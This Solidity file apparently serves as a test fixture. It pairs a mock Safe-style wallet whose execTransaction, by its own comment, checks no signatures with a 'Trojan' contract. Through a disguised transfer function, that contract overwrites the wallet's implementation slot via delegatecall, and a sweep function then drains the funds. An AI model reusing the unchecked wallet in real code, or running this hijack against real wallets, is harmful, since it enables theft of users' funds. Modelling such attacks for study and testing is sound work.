// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A wallet with the events and the execTransaction of a Safe; it trusts whoever calls and checks no signature.
contract Safe {
    event SafeSetup(
        address indexed initiator, address[] owners, uint256 threshold, address initializer, address fallbackHandler
    );
    event AddedOwner(address indexed owner);
    event RemovedOwner(address indexed owner);
    event ChangedThreshold(uint256 threshold);
    event EnabledModule(address indexed module);
    event DisabledModule(address indexed module);
    event ChangedGuard(address indexed guard);
    event ChangedFallbackHandler(address indexed handler);
    event ExecutionSuccess(bytes32 indexed txHash, uint256 payment);
    event ExecutionFailure(bytes32 indexed txHash, uint256 payment);
    event SafeReceived(address indexed sender, uint256 value);

    address public singleton;
    uint256 public nonce;

    constructor(address[] memory owners, uint256 threshold) payable {
        emit SafeSetup(msg.sender, owners, threshold, address(0), address(0));
    }

    receive() external payable {
        emit SafeReceived(msg.sender, msg.value);
    }

    function execTransaction(
        address to,
        uint256 value,
        bytes calldata data,
        uint8 operation,
        uint256,
        uint256,
        uint256,
        address,
        address payable,
        bytes memory
    ) external payable returns (bool success) {
        bytes32 hash = keccak256(abi.encode(nonce, to, value, data, operation));
        nonce += 1;
        if (operation == 1) (success,) = to.delegatecall(data);
        else (success,) = to.call{value: value}(data);
        if (success) emit ExecutionSuccess(hash, 0);
        else emit ExecutionFailure(hash, 0);
    }

    function addOwnerWithThreshold(address owner, uint256 threshold) external {
        emit AddedOwner(owner);
        emit ChangedThreshold(threshold);
    }

    function removeOwner(address, address owner, uint256 threshold) external {
        emit RemovedOwner(owner);
        emit ChangedThreshold(threshold);
    }

    function changeThreshold(uint256 threshold) external {
        emit ChangedThreshold(threshold);
    }

    function enableModule(address module) external {
        emit EnabledModule(module);
    }

    function disableModule(address, address module) external {
        emit DisabledModule(module);
    }

    function setGuard(address guard) external {
        emit ChangedGuard(guard);
    }

    function setFallbackHandler(address handler) external {
        emit ChangedFallbackHandler(handler);
    }
}

/// What a Safe is made to delegatecall in an attack: it replaces the code the wallet runs and takes the money.
contract Trojan {
    address private singleton;

    function transfer(address to, uint256) external {
        singleton = to;
    }

    function sweep(address payable to) external {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "payment refused");
    }
}
